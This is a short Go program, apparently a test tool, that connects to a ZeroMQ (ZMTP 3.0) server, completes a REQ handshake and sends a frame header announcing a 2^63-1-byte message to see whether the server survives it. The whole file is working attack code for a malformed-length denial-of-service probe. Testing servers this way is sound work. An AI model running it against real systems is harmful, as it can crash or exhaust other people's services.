// Stranger attacks a server. It connects, completes the handshake like a REQ
// socket, and sends nine bytes: the header of a frame of 2^63-1 bytes. Then it
// waits until the server closes the connection.
package main

import (
	"flag"
	"fmt"
	"io"
	"log"
	"net"
	"os"
	"strings"
)

const (
	greeting = "\xff\x00\x00\x00\x00\x00\x00\x00\x00\x7f" + // ZMTP
		"\x03\x00" + // version 3.0
		"NULL\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00" // no encryption
	ready     = "\x04\x19\x05READY\x0bSocket-Type\x00\x00\x00\x03REQ"
	nineBytes = "\x02\x7f\xff\xff\xff\xff\xff\xff\xff"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("stranger: ")
	flags := flag.NewFlagSet("stranger", flag.ExitOnError)
	connect := flags.String("connect", "tcp://127.0.0.1:5555", "`endpoint` to connect to")
	flags.Parse(os.Args[1:])
	if flags.NArg() > 0 {
		log.Printf("unexpected argument %q", flags.Arg(0))
		flags.Usage()
		os.Exit(2)
	}

	if err := run(*connect); err != nil {
		log.Fatal(err)
	}
}

func run(endpoint string) error {
	conn, err := net.Dial("tcp", strings.TrimPrefix(endpoint, "tcp://"))
	if err != nil {
		return fmt.Errorf("no server at %s: %w", endpoint, err)
	}
	defer conn.Close()
	filler := strings.Repeat("\x00", 64-len(greeting))
	if _, err := io.WriteString(conn, greeting+filler+ready+nineBytes); err != nil {
		return fmt.Errorf("cannot send nine bytes: %w", err)
	}
	fmt.Println("sent nine bytes")
	io.Copy(io.Discard, conn) // until the connection ends, with or without an error
	fmt.Println("the server closed the connection")
	return nil
}
